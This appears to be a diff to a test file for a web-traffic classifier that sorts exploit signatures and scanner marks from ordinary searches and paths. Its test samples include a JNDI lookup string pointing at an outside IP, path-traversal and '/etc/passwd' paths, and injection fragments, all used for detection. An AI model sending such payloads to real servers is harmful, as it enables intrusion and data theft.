@@ -116,18 +116,47 @@ const ORDINARY_HEADERS = [
   'https://shop.example.org/cart?items={"a":1}',
 ];
 
-test('every exploit signature and scanner mark fires on its sample, in a request and (unless target-only) in a header', () => {
+test('every exploit signature and scanner mark fires on its sample, where it applies', () => {
   for (const s of [...EXPLOIT_SIGNATURES, ...SCANNER_MARKS]) {
-    assert.ok(signaturesIn(s.sample, 'target').includes(s.name), `${s.name}: ${s.sample}`);
-    if (!s.targetOnly) assert.ok(signaturesIn(s.sample, 'header').includes(s.name), `${s.name} in a header`);
+    const fields = s.agentOnly ? (['agent'] as const) : s.targetOnly ? (['path'] as const) : (['path', 'agent'] as const);
+    for (const f of fields) assert.ok(signaturesIn(s.sample, f).includes(s.name), `${s.name} in the ${f}: ${s.sample}`);
+    if (s.agentOnly) {
+      assert.is(classifyHeader(s.sample), PATH_SCANNER, `${s.name} in an agent`);
+      assert.not.ok(signaturesIn(s.sample, 'path').includes(s.name), `${s.name} in a path is a page about it`);
+      continue;
+    }
     const q = s.sample.indexOf('?');
     const flags = q > 0 ? classifyPath(s.sample.slice(0, q)) | classifyQuery(s.sample.slice(q)) : classifyPath(s.sample);
-    assert.ok(flags & (PATH_EXPLOIT | PATH_SCANNER), `classified: ${s.name}`);
+    // In a query, text people type too (natural) is a payload; anywhere else an unmistakable attack.
+    assert.ok(flags & (s.natural ? PATH_EXPLOIT | PATH_PAYLOAD | PATH_SCANNER : PATH_EXPLOIT | PATH_SCANNER), `classified: ${s.name}`);
   }
 });
 
+test('text people type in a search box is a payload there, not an unmistakable attack', () => {
+  for (const q of [
+    '?q=union+select+tutorial',
+    '?q=%3Cscript%3E+xss+explained',
+    '?q=win.ini+location',
+    '?q=chmod+777',
+    '?q=%2Fetc%2Fpasswd+format',
+    '?q=%7B%7B7*7%7D%7D+angular',
+    '?q=java.lang.Runtime',
+  ]) {
+    const f = classifyQuery(q);
+    assert.not.ok(f & PATH_EXPLOIT, q);
+  }
+  assert.is(classifyQuery('?q=%24%7Benv%3AHOME%7D') & PATH_EXPLOIT, 0, '${env:HOME} in a search');
+  assert.ok(classifyQuery('?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D') & PATH_EXPLOIT, 'a JNDI lookup is one anywhere');
+  assert.ok(classifyPath('/etc/passwd') & PATH_EXPLOIT, 'in a path it is one');
+  assert.is(classifyPath('/blog/nmap-tutorial') & PATH_SCANNER, 0, "a scanner's name in a path is a page about it");
+  assert.ok(classifyPath('/docs/../../etc') & PATH_EXPLOIT, 'raw dot-dot segments climbing');
+  assert.not.ok(classifyPath('/static/js/webpack:///./src/../node_modules/react/index.js') & PATH_EXPLOIT, 'one, in a source-map path');
+  assert.not.ok(classifyPath('/docs/linux/etc/passwd') & PATH_EXPLOIT, 'a page about the file');
+  assert.not.ok(classifyPath('/api/v4/projects/1/repository/files/src%2F..%2FREADME.md/raw') & PATH_EXPLOIT, 'an encoded one is a parameter');
+});
+
 test('ordinary requests and headers carry no signature', () => {
-  for (const t of ORDINARY_TARGETS) assert.equal(signaturesIn(t, 'target'), [], t);
+  for (const t of ORDINARY_TARGETS) assert.equal(signaturesIn(t, 'path'), [], t);
   for (const h of ORDINARY_HEADERS) assert.is(classifyHeader(h), 0, h);
 });
 
